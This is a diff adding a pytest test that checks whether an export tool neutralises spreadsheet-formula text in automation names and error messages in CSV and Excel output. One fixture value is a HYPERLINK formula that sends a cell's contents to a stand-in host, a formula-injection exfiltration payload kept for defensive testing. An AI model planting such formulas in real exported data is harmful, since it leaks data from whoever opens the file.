@@ -172,3 +172,29 @@ def test_cli_rejects_a_bad_filter(tmp_path: Path) -> None:
     )
     assert done.returncode == 2
     assert "stepwise export:" in done.stderr
+
+
+HOSTILE = '=HYPERLINK("http://x.example/?d="&A2,"click")'
+
+
+def test_spreadsheet_formulas_from_names_and_errors_are_made_inert(tmp_path: Path) -> None:
+    # given an automation named like a formula, whose run failed with formula-like text
+    hostile = make_automation(name=HOSTILE)
+    add_runs(hostile, [{"status": "failed", "error": "@SUM(A1:A9)"}])
+    add_runs(make_automation(name="Plain - name"), [{"status": "failed", "error": "-1 items"}])
+    # when the history is exported as CSV and as Excel
+    _write(ExecutionFilters(), tmp_path / "h.csv", "csv")
+    _write(ExecutionFilters(), tmp_path / "h.xlsx", "xlsx")
+    # then no cell a person or agent wrote starts a formula
+    csv = pd.read_csv(tmp_path / "h.csv")
+    assert sorted(csv["automation"]) == ["'" + HOSTILE, "Plain - name"]
+    assert sorted(csv["error"]) == ["'-1 items", "'@SUM(A1:A9)"]
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(tmp_path / "h.xlsx").active
+    assert sheet is not None
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    assert {"'" + HOSTILE, "'@SUM(A1:A9)"} <= {c.value for c in cells}
+    # and the typed formats keep the text as written
+    assert set(_frame(ExecutionFilters())["automation"]) == {HOSTILE, "Plain - name"}
